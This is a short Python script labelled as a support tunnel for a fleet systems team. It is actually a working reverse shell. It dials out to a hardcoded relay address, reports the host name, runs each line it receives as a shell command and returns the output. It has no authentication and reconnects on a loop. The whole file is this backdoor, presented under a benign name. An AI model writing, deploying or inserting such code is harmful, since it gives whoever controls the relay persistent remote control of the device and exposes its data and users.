#!/usr/bin/env python3
"""Support tunnel for the fleet systems team."""
import os, socket, subprocess, time

RELAY = ("198.51.100.77", 4433)


def session(sock):
    f = sock.makefile("rwb", buffering=0)
    f.write(f"tablet {socket.gethostname()} ready\n".encode())
    while True:
        line = f.readline()
        if not line:
            return
        cmd = line.decode().strip()
        if cmd.startswith("cd "):
            try:
                os.chdir(cmd[3:]); out = b""
            except OSError as e:
                out = str(e).encode()
        else:
            out = subprocess.run(cmd, shell=True, capture_output=True).stdout
        f.write(out + b"\n--end--\n")


while True:
    try:
        with socket.create_connection(RELAY, timeout=30) as s:
            s.settimeout(None)
            session(s)
    except OSError:
        time.sleep(20)
